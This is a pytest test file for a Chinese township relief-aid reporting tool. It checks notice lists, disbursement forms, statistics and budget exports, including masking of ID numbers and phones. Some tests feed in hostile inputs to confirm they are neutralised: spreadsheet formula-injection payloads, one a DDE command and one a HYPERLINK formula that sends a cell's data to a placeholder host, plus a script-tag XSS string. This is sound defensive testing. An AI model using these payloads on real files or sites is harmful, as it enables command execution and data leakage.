"""Documents out: the public notice lists, the disbursement form, the statistics and the
budget figures, in every export format; on the demo campaign (played once per session,
copied per test) and on cases walked by hand."""

from __future__ import annotations

import copy
import csv
import dataclasses
import io
import re
from collections import Counter
from collections.abc import Callable
from datetime import datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from definitions import SHIPPED
from tests.helpers.cases import standard_fen
from tests.helpers.cli import bangfu
from tests.helpers.demo import copy_demo
from workflow import Case, Engine
from workflow.clock import LOCAL_TZ, local
from workflow.reporting import (
    FORMATS,
    AidTargetsSpec,
    Column,
    ReportError,
    Row,
    Table,
    aid_progress,
    disbursement_form,
    load_population,
    notice_list,
    population_report,
    public_name,
    render_html,
    statistics,
    write,
)
from workflow.rules.money import chinese_capital

#: an 18-character ID number, or an 11-digit mobile, anywhere in an export
ID_NUMBER = re.compile(r"(?<!\d)\d{17}[\dXx](?!\d)")
MOBILE = re.compile(r"(?<!\d)1[3-9]\d{9}(?!\d)")
POPULATION = SHIPPED / "populations" / "township_2027.example.yaml"
LEVEL_UNITS = [("village", "shangcun"), ("township", "dongling"), ("county", "qingshan")]
NOTICE_STATE_LABELS = {"公示", "初审", "复审", "上报", "发放", "完成", "异议核查"}


def read_back(path: Path) -> str:
    """Everything a reader of the file sees, as text (XLSX cells through openpyxl)."""
    if path.suffix == ".xlsx":
        book = openpyxl.load_workbook(path)
        return "\n".join("\t".join("" if v is None else str(v) for v in row)
                         for sheet in book.worksheets for row in sheet.iter_rows(values_only=True))
    return path.read_text(encoding="utf-8-sig")


def xlsx_rows(path: Path) -> list[tuple[Any, ...]]:
    return list(openpyxl.load_workbook(path).active.iter_rows(values_only=True))


def personal(engine: Engine) -> tuple[set[str], set[str]]:
    cases = engine.list_cases()
    return ({str(c.data["id_number"]) for c in cases},
            {str(c.data["phone"]) for c in cases if c.data.get("phone")})


def with_notice(engine: Engine, **update: Any) -> Engine:
    """The engine with its campaign's ``notice`` settings changed (a copy; nothing stored)."""
    eng = copy.copy(engine)
    eng.campaigns = {}
    for cid, c in engine.campaigns.items():
        notice = c.spec.notice.model_copy(update=update)
        eng.campaigns[cid] = dataclasses.replace(
            c, spec=c.spec.model_copy(update={"notice": notice}))
    return eng


def with_objection_phone(engine: Engine, phone: str) -> Engine:
    contact = next(iter(engine.campaigns.values())).spec.notice.objections
    assert contact is not None
    return with_notice(engine, objections=contact.model_copy(update={"phone": phone}))


# -- the public notice list ---------------------------------------------------

@pytest.mark.parametrize("fmt", FORMATS)
def test_notice_list_exports_show_no_full_id_or_phone(demo: Engine, tmp_path: Path,
                                                      fmt: str) -> None:
    """No export of any level's notice list holds an applicant's full ID or phone number."""
    ids, phones = personal(demo)
    for level, unit in LEVEL_UNITS:
        table = notice_list(demo, level, unit)
        assert len(table) > 0
        text = read_back(write(table, tmp_path / f"{level}.{fmt}", fmt))
        assert not ID_NUMBER.search(text), ID_NUMBER.search(text)
        assert not MOBILE.search(text), MOBILE.search(text)
        assert not any(i in text or i[:-1] in text for i in ids)
        assert not any(p in text for p in phones)
        # the list is there: masked IDs, names, the window and the objection phone
        first = table.data_rows[0]
        assert str(first["id_number"]) in text and str(first["name"]) in text
        assert str(first["end"]) in text and "0571-88886666" in text


@pytest.mark.parametrize("fmt", FORMATS)
def test_notice_objection_phone_is_published_in_full(demo: Engine, tmp_path: Path,
                                                     fmt: str) -> None:
    """The campaign's objection phone is printed as given, even a mobile; the applicants'
    numbers are still masked around it."""
    eng = with_objection_phone(demo, "13912345678")
    ids, phones = personal(eng)
    table = notice_list(eng, "village", "shangcun")
    text = read_back(write(table, tmp_path / f"notice.{fmt}", fmt))
    assert "13912345678" in text
    assert not any(p in text for p in phones) and not any(i in text for i in ids)


def test_notice_shows_full_names_by_default(demo: Engine) -> None:
    """Names are shown in full (neighbours must know who is proposed); IDs keep their first
    6 and last 4 characters; there is no phone column."""
    table = notice_list(demo, "village", "shangcun")
    assert table.meta["names"] == "full"
    by_number = {c.number: c for c in demo.list_cases(unit="shangcun")}
    for row in table.data_rows:
        case = by_number[str(row["number"])]
        name, id_number = str(case.data["applicant_name"]), str(case.data["id_number"])
        assert row["name"] == name
        assert row["id_number"] == id_number[:6] + "*" * 8 + id_number[-4:]
    assert "phone" not in {c.key for c in table.columns}


def test_notice_masks_the_middle_of_names_when_the_campaign_says_so(demo: Engine) -> None:
    """``notice.names: masked`` hides the middle character (李*兰, 王*); IDs stay masked."""
    table = notice_list(with_notice(demo, names="masked"), "village", "shangcun")
    by_number = {c.number: c for c in demo.list_cases(unit="shangcun")}
    for row in table.data_rows:
        name = str(by_number[str(row["number"])].data["applicant_name"])
        assert row["name"] == (name[0] + "*" * (len(name) - 2) + name[-1] if len(name) > 2
                               else name[0] + "*")
        assert "*" in str(row["id_number"])
    assert public_name("王芳", "masked") == "王*" and public_name("李秀兰", "masked") == "李*兰"
    assert public_name("李秀兰") == "李秀兰"


def test_notice_ends_with_posting_unit_dates_and_where_to_object(demo: Engine) -> None:
    """The last lines name the posting unit, the notice dates, and the office, phone,
    address and way to object."""
    table = notice_list(demo, "township", "dongling")
    footer = "\n".join(table.footer)
    assert "公示单位：青山县 / 东岭镇" in footer
    starts = [str(r["start"]) for r in table.data_rows]
    ends = [str(r["end"]) for r in table.data_rows]
    assert f"公示时间：{min(starts)} 至 {max(ends)}" in footer
    assert "东岭镇社会事务办" in footer and "电话 0571-88886666" in footer
    assert "东岭镇府前路 1 号" in footer and "来电、来访或书面" in footer
    english = "\n".join(notice_list(demo, "township", "dongling", lang="en").footer)
    assert "phone 0571-88886666" in english and "Fuqian Road" in english
    html = render_html(table)
    assert html.rindex("0571-88886666") > html.rindex("</table>")


def test_notice_without_an_objection_contact_is_refused(demo: Engine) -> None:
    """A campaign that names no objection contact gets no notice: it could serve no purpose."""
    with pytest.raises(ReportError, match="names no objection contact") as err:
        notice_list(with_notice(demo, objections=None), "village", "shangcun")
    assert "异议受理" in err.value.localized("zh")


def test_levels_filter_categories(demo: Engine) -> None:
    """General cases are on village and township lists only; moderate and severe on all three."""
    county = notice_list(demo, "county", "qingshan")
    townships = [notice_list(demo, "township", t) for t in ("dongling", "xihe")]
    village = notice_list(demo, "village", "shangcun")
    assert {r["category"] for r in county.data_rows} == {"中度困难户", "重度困难户"}
    general = [r["number"] for r in village.data_rows if r["category"] == "一般困难户"]
    assert general
    assert not set(general) & {r["number"] for r in county.data_rows}
    on_townships = {r["number"] for t in townships for r in t.data_rows}
    assert set(general) <= on_townships
    assert {r["number"] for r in county.data_rows} == {
        r["number"] for t in townships for r in t.data_rows
        if r["category"] in ("中度困难户", "重度困难户")}


def test_notice_levels_are_campaign_data(demo: Engine) -> None:
    """A campaign that lists general hardship at county level too puts those cases there."""
    eng = copy.copy(demo)
    eng.campaigns = {}
    for cid, c in demo.campaigns.items():
        standards = dict(c.spec.standards)
        standards["general"] = standards["general"].model_copy(
            update={"notice": ("village", "township", "county")})
        eng.campaigns[cid] = dataclasses.replace(
            c, spec=c.spec.model_copy(update={"standards": standards}))
    county = notice_list(eng, "county", "qingshan")
    assert "一般困难户" in {r["category"] for r in county.data_rows}
    assert "一般困难户" not in {r["category"] for r in notice_list(demo, "county", "qingshan")
                               .data_rows}


def test_notice_list_holds_cases_in_or_past_the_notice(demo: Engine) -> None:
    """Every case that entered the notice and was not refused or withdrawn, and no other."""
    table = notice_list(demo, "township", "dongling")
    expected = {c.number for c in demo.list_cases(unit="dongling")
                if "publicity" in c.first_entered and c.state not in ("rejected", "withdrawn")}
    assert {r["number"] for r in table.data_rows} == expected
    assert {r["state"] for r in table.data_rows} <= NOTICE_STATE_LABELS
    refused = notice_list(demo, "township", "dongling", include_refused=True)
    assert len(refused) > len(table)


def test_notice_window(engine: Engine, walk: Callable[..., Case]) -> None:
    """The window runs from the first entry into the notice for the definition's 3 days."""
    noticed = walk("publicity", category="severe")
    walk("deliberation", category="general")
    rows = notice_list(engine, "village", "shangcun").data_rows
    assert [r["number"] for r in rows] == [noticed.number]
    start = datetime.fromisoformat(noticed.first_entered["publicity"])
    assert rows[0]["start"] == local(start)
    assert rows[0]["end"] == local(start + timedelta(days=3))
    assert rows[0]["amount"] == 400000
    assert notice_list(engine, "county", "qingshan").data_rows[0]["number"] == noticed.number


def test_unknown_level_or_unit_is_refused(demo: Engine) -> None:
    """A level or unit that does not exist is refused with a suggestion."""
    with pytest.raises(ReportError, match="did you mean 'county'"):
        notice_list(demo, "countyy", "qingshan")
    with pytest.raises(ReportError, match="did you mean 'shangcun'"):
        notice_list(demo, "village", "shangcun2")


# -- the disbursement form ----------------------------------------------------

def test_form_amounts_capitals_and_total(demo: Engine) -> None:
    """Each amount is the paid or standard one, in figures and capitals; the total too."""
    form = disbursement_form(demo, "shangcun")
    cases = {c.number: c for c in demo.list_cases(unit="shangcun")}
    rows = form.data_rows
    assert {cases[str(r["number"])].state for r in rows} == {"disbursement", "completed"}
    assert len(rows) == sum(c.state in ("disbursement", "completed") for c in cases.values())
    for row in rows:
        case = cases[str(row["number"])]
        expected = case.data["amount_fen"] if case.state == "completed" \
            else standard_fen(demo, case)
        assert row["amount"] == expected
        assert row["capital"] == chinese_capital(expected)
        assert row["name"] == case.data["applicant_name"]
        assert row["id_number"] != case.data["id_number"]
        assert row["recipient_sign"] is None and row["cadre_sign"] is None
        assert str(row["remark"]).startswith("已发放") == (case.state == "completed")
    total = form.total
    assert total is not None
    assert total["amount"] == sum(int(r["amount"] or 0) for r in rows)
    assert total["capital"] == chinese_capital(int(total["amount"] or 0))
    severe = next(r for r in rows if r["category"] == "重度困难户")
    assert (severe["amount"], severe["capital"]) == (400000, "肆仟元整")


def test_form_capitals_of_plan_figures() -> None:
    """The capitals the forms print for the plan's figures."""
    assert chinese_capital(400000) == "肆仟元整"
    assert chinese_capital(11080000) == "壹拾壹万零捌佰元整"
    assert chinese_capital(21540000) == "贰拾壹万伍仟肆佰元整"
    assert chinese_capital(22600000) == "贰拾贰万陆仟元整"


@pytest.mark.parametrize("fmt", FORMATS)
def test_form_exports_keep_signature_columns_and_mask_ids(demo: Engine, tmp_path: Path,
                                                          fmt: str) -> None:
    """Every format has both signature columns, blank, the capitals, and no full ID."""
    form = disbursement_form(demo, "xiacun")
    path = write(form, tmp_path / f"form.{fmt}")
    text = read_back(path)
    assert "领取人签字" in text and "慰问干部签字" in text
    assert str(form.total["capital"]) in text  # type: ignore[index]
    assert not ID_NUMBER.search(text) and not MOBILE.search(text)
    if fmt == "xlsx":
        sheet = openpyxl.load_workbook(path).active
        header = next(i for i, row in enumerate(sheet.iter_rows(values_only=True), start=1)
                      if row[0] == "序号")
        labels = [c.value for c in sheet[header]]
        amount, capital = labels.index("金额（元）") + 1, labels.index("金额（大写）") + 1
        signs = [labels.index("领取人签字") + 1, labels.index("慰问干部签字") + 1]
        data = sheet.cell(header + 1, amount)
        assert data.number_format == "#,##0.00" and isinstance(data.value, int | float)
        assert isinstance(sheet.cell(header + 1, capital).value, str)
        assert all(sheet.cell(header + 1, s).value is None for s in signs)
        assert sheet.cell(1, 1).value == form.title
        total = sheet.cell(header + len(form.rows), amount).value
        assert Decimal(str(total)) * 100 == form.total["amount"]  # type: ignore[index]
    if fmt == "html":
        assert text.count('<td class="signature"></td>') == 2 * len(form.rows)


def test_form_has_a_subtotal_and_a_number_on_every_page(demo: Engine, tmp_path: Path) -> None:
    """Every printed page of the form closes with its subtotal and carries "第 n 页 共 N 页";
    the subtotals add up to the total; XLSX breaks the sheet after each subtotal."""
    form = disbursement_form(demo, "shangcun", page_rows=7)
    pages = int(form.meta["pages"])
    assert pages == -(-len(form) // 7) and pages > 1
    subtotals = [r for r in form.rows if r.kind == "subtotal"]
    assert [r.page for r in subtotals] == list(range(1, pages + 1))
    for sub in subtotals:
        on_page = [r for r in form.data_rows if r.page == sub.page]
        assert 0 < len(on_page) <= 7
        assert sub["amount"] == sum(int(r["amount"] or 0) for r in on_page)
        assert sub["capital"] == chinese_capital(int(sub["amount"] or 0))
        assert sub["number"] == f"第 {sub.page} 页小计"
    assert sum(int(r["amount"] or 0) for r in subtotals) == form.total["amount"]  # type: ignore[index]
    html = render_html(form)
    for n in range(1, pages + 1):
        assert html.count(f"第 {n} 页 共 {pages} 页") == 1
    assert html.count("<thead>") == pages and html.count("page-break-before: always") == 1
    sheet = openpyxl.load_workbook(write(form, tmp_path / "form.xlsx")).active
    assert len(sheet.row_breaks.brk) == pages
    assert "&P" in sheet.oddFooter.center.text and "&N" in sheet.oddFooter.center.text
    with pytest.raises(ReportError):
        disbursement_form(demo, "shangcun", page_rows=0)


def test_form_and_notice_never_wrap_case_numbers_or_categories(demo: Engine) -> None:
    """In print, case numbers, names and categories stay on one line (white-space: nowrap)."""
    for table in (disbursement_form(demo, "shangcun"), notice_list(demo, "village", "shangcun")):
        nowrap = {c.key for c in table.columns if c.nowrap}
        assert {"number", "name", "category"} <= nowrap
        html = render_html(table)
        assert re.search(r"td\.nowrap[^{]*\{[^}]*white-space:\s*nowrap", html)
        row = table.data_rows[0]
        for key in ("number", "category"):
            assert f'<td class="text nowrap">{row[key]}</td>' in html


def test_form_is_per_village(demo: Engine) -> None:
    """A unit with villages below it gets no form."""
    with pytest.raises(ReportError, match="per village"):
        disbursement_form(demo, "dongling")


# -- statistics ---------------------------------------------------------------

def test_statistics_reconcile_to_the_fen(demo: Engine) -> None:
    """Rows add up to the village subtotals and the grand total; the total matches the cases."""
    table = statistics(demo)
    numeric = [c.key for c in table.columns if c.kind in ("count", "money")]
    data, total = table.data_rows, table.total
    assert total is not None
    for key in numeric:
        assert total[key] == sum(int(r[key] or 0) for r in data), key
        assert total[key] == sum(int(r[key] or 0) for r in table.rows if r.kind == "subtotal")
    for row in (*data, total):
        assert row["amount"] == int(row["pending"] or 0) + int(row["paid"] or 0)
    cases = demo.list_cases()
    assert total["cases"] == len(cases) == 300
    assert {k.removeprefix("state:"): v for k, v in total.cells.items()
            if k.startswith("state:") and v} == dict(Counter(c.state for c in cases))
    assert total["paid"] == sum(c.data["amount_fen"] for c in cases if c.state == "completed")
    assert total["pending"] == sum(standard_fen(demo, c) for c in cases
                                   if c.state not in ("completed", "rejected", "withdrawn"))


def test_statistics_xlsx_money_reads_back_exactly(demo: Engine, tmp_path: Path) -> None:
    """The money columns of the XLSX sum, to the fen, to the total row."""
    table = statistics(demo)
    rows = xlsx_rows(write(table, tmp_path / "stats.xlsx"))
    header = next(i for i, r in enumerate(rows) if r[0] == "村（社区）")
    paid = list(rows[header]).index("已发放金额（元）")
    body = rows[header + 1:]
    fen = [int(Decimal(str(r[paid])) * 100) for r in body if r[paid] is not None]
    kinds = [r.kind for r in table.rows]
    assert len(fen) == len(kinds)
    assert fen[-1] == sum(f for f, k in zip(fen, kinds, strict=True) if k == "data")
    assert fen[-1] == table.total["paid"]  # type: ignore[index]


# -- the budget figures of a population ---------------------------------------

@pytest.mark.parametrize("fmt", FORMATS)
def test_population_reproduces_the_plan_figures(demo: Engine, tmp_path: Path,
                                                fmt: str) -> None:
    """DOMAIN.md's 110,800 / 215,400 / 226,000 from the shipped population file."""
    spec = load_population(POPULATION)
    standards = demo.campaigns[spec.campaign or ""].spec.standards
    table = population_report(standards, spec.counts)
    assert table.meta["category_totals"] == {"three_withouts": 11080000, "dibao": 21540000,
                                             "poor_household": 22600000}
    assert table.meta["total_fen"] == 11080000 + 21540000 + 22600000
    shown = {r["key"]: (r["amount"], r["capital"]) for r in table.rows
             if r.kind == "subtotal" or r["key"] == "dibao"}
    assert shown == {"three_withouts": (11080000, "壹拾壹万零捌佰元整"),
                     "dibao": (21540000, "贰拾壹万伍仟肆佰元整"),
                     "poor_household": (22600000, "贰拾贰万陆仟元整")}
    text = read_back(write(table, tmp_path / f"population.{fmt}"))
    for figure in ("110800", "215400", "226000"):
        grouped = f"{int(figure):,}"
        assert any(f in text for f in (f"{figure}.00", f"{grouped}.00", figure)), figure
    assert "壹拾壹万零捌佰元整" in text


# -- monthly aid and targets ----------------------------------------------------

def test_aid_progress_counts_households_by_month(demo: Engine) -> None:
    """Households given aid per month, the year's total and the share of the target."""
    targets = AidTargetsSpec.model_validate({
        "targets": "demo", "labels": {"zh": "帮扶进度", "en": "Progress"}, "year": 2027,
        "kinds": {"general": {"labels": {"zh": "一般困难", "en": "General"},
                              "process": "relief_application",
                              "where": {"category": ["general"]}, "target": 200}}})
    row = aid_progress(demo, targets).data_rows[0]
    done = [c for c in demo.list_cases() if c.state == "completed"
            and c.data["category"] == "general"]
    months = Counter(datetime.fromisoformat(c.first_entered["completed"]).astimezone(LOCAL_TZ)
                     .month for c in done)
    assert {m: row[f"m{m}"] for m in range(1, 13) if row[f"m{m}"]} == dict(months)
    assert row["year"] == len(done)
    assert row["progress"] == f"{len(done) * 100 / 200:.1f}%"


# -- the writers ----------------------------------------------------------------

def test_html_is_escaped_and_csv_has_a_bom(tmp_path: Path) -> None:
    """Text is escaped in HTML; CSV starts with a byte-order mark for Excel."""
    table = Table("stats", "<b>标题</b>", (Column("name", "姓名"), Column("m", "金额", "money")),
                  (Row({"name": "<script>alert(1)</script>", "m": 123456}),))
    html = render_html(table)
    assert "<script>" not in html and "&lt;script&gt;" in html and "1,234.56" in html
    raw = write(table, tmp_path / "t.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert list(csv.reader(io.StringIO(raw.decode("utf-8-sig")))) == [
        ["姓名", "金额"], ["<script>alert(1)</script>", "1234.56"]]
    with pytest.raises(ReportError, match="unknown report format"):
        write(table, tmp_path / "t.pdf")


INJECTIONS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"点我")', "+1+1",
              "-2+3", "@SUM(A1)", "＝1+1"]


@pytest.mark.parametrize("name", INJECTIONS)
def test_spreadsheet_formulas_in_names_are_written_as_text(tmp_path: Path, name: str) -> None:
    """A name starting like a formula is quoted in CSV and stored as text in XLSX; the
    money column keeps its numbers (a negative amount stays a number)."""
    table = Table("stats", "发放表", (Column("name", "姓名"), Column("m", "金额", "money")),
                  (Row({"name": name, "m": -60000}),))
    rows = list(csv.reader(io.StringIO(write(table, tmp_path / "t.csv").read_bytes()
                                       .decode("utf-8-sig"))))
    assert rows[1] == ["'" + name, "-600.00"]
    write(table, tmp_path / "t.xlsx")
    book = openpyxl.load_workbook(tmp_path / "t.xlsx")
    cells = [c for row in book.active.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    assert "'" + name in [c.value for c in cells]


def test_control_characters_do_not_stop_an_xlsx_report(tmp_path: Path) -> None:
    """A control character in a name once made the XLSX reports exit 70 for the village."""
    table = Table("stats", "名单", (Column("name", "姓名"),), (Row({"name": "张\x01三\x1b"}),))
    write(table, tmp_path / "t.xlsx")
    assert "张三" in read_back(tmp_path / "t.xlsx")


# -- the command line ------------------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
def test_cli_notice_writes_a_masked_list(demo_db: Path, tmp_path: Path, fmt: str) -> None:
    """`bangfu report notice --level county --unit qingshan --format F --out FILE`."""
    db = copy_demo(demo_db, tmp_path / "demo.db")
    target = tmp_path / "notice.out"
    result: Any = bangfu("report", "notice", "--level", "county", "--unit", "qingshan",
                         "--format", fmt, "--out", str(target), "--db", str(db))
    assert result.exit_code == 0, result.output
    text = read_back(target.rename(target.with_suffix(f".{fmt}")))
    assert "中度困难户" in text and "一般困难户" not in text
    assert not ID_NUMBER.search(text) and not MOBILE.search(text)


def test_cli_population_prints_the_plan_figures() -> None:
    """`bangfu report population FILE --json` gives 110,800 / 215,400 / 226,000."""
    import json

    result: Any = bangfu("report", "population", str(POPULATION), "--json")
    assert result.exit_code == 0, result.output
    rows = json.loads(result.output)["rows"]
    assert {r["key"]: r["amount"] for r in rows if r["kind"] == "subtotal"} == {
        "three_withouts": 11080000, "poor_household": 22600000}
    assert next(r for r in rows if r["key"] == "dibao")["capital"] == "贰拾壹万伍仟肆佰元整"
